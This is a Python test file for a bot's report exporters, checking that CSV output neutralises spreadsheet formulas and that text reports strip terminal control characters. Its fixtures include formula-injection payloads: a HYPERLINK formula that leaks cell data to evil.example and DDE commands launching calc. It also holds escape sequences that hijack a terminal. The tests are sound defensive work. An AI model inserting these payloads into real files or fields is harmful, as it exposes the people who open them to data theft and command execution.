"""Reports people open elsewhere are safe there: no CSV cell a spreadsheet would run as a
formula, no control character a terminal would obey."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from bot.kudos.rules import Tally
from bot.reports.formats import (
    csv_cell,
    render_csv,
    render_kudos_csv,
    render_kudos_text,
    render_text,
)
from bot.reports.rules import DepartmentReport, KudosReport, Report
from bot.weekly.rules import WeeklyResults

UNTIL = datetime(2026, 11, 30, tzinfo=UTC)
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ESCAPES = "\x1b[2J\x1b]0;owned\x07name\x9b31m"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'x"),
        ("a\r\nb\x00c", "a bc"),
        ("Alex", "Alex"),
        ("a=b", "a=b"),
        (-12, -12),
        (4.5, 4.5),
        (None, ""),
    ],
)
def test_a_csv_cell_never_starts_a_formula(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def _department(
    name: str, comments: list[str] | None = None, nps: int | None = None
) -> DepartmentReport:
    return DepartmentReport(
        key="it",
        name=name,
        requests=1,
        open=0,
        resolved=1,
        median_first_response_seconds=60.0,
        median_resolution_seconds=120.0,
        csat=100,
        ratings=1,
        avg_rating=5.0,
        p90_first_response_seconds=60.0,
        p90_resolution_seconds=120.0,
        team_id="T0TEST",
        weekly=WeeklyResults(nps=nps, nps_responses=5, comments=comments or []),
    )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_kudos_csv_neutralises_names_and_ids() -> None:
    people = [(f"U0{n}", 10 - n) for n in range(len(HOSTILE_NAMES))]
    report = KudosReport(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        tally=Tally(receivers=people, givers=[("=U0X", 1)], shoutouts=3, kudos=10),
        names={user: name for (user, _), name in zip(people, HOSTILE_NAMES, strict=True)},
        departments=[],
    )
    cells = _cells(render_kudos_csv(report))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + HOSTILE_NAMES[0] in cells
    assert "'=U0X" in cells


def test_the_department_csv_neutralises_names_and_keeps_negative_numbers() -> None:
    report = Report(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        departments=[_department("=cmd|' /C calc'!A0", nps=-20)],
        weekly_pulse={"week": None, "sent": 0, "answered": 0, "response_rate": None},
        anonymity_minimum=5,
    )
    [row] = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert row["name"] == "'=cmd|' /C calc'!A0"
    assert row["nps"] == "-20"


def test_the_text_reports_show_people_text_without_control_characters() -> None:
    report = Report(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        departments=[_department(f"IT {ESCAPES}", comments=[f"slow {ESCAPES}\nreally"])],
        weekly_pulse={"week": "2026-W44", "sent": 6, "answered": 5, "response_rate": 83},
        anonymity_minimum=5,
    )
    kudos = KudosReport(
        since=UNTIL - timedelta(days=30),
        until=UNTIL,
        days=30,
        tally=Tally(receivers=[("U0A", 2)], givers=[("U0B", 2)], shoutouts=1, kudos=2),
        names={"U0A": ESCAPES, "U0B": "Bea\x00"},
        departments=[_department(ESCAPES)],
    )
    for text in (render_text(report), render_kudos_text(kudos)):
        assert not any(ch in text for ch in "\x1b\x07\x9b\x00")
    assert "slow [2J ]0;owned name 31m really" in render_text(report)
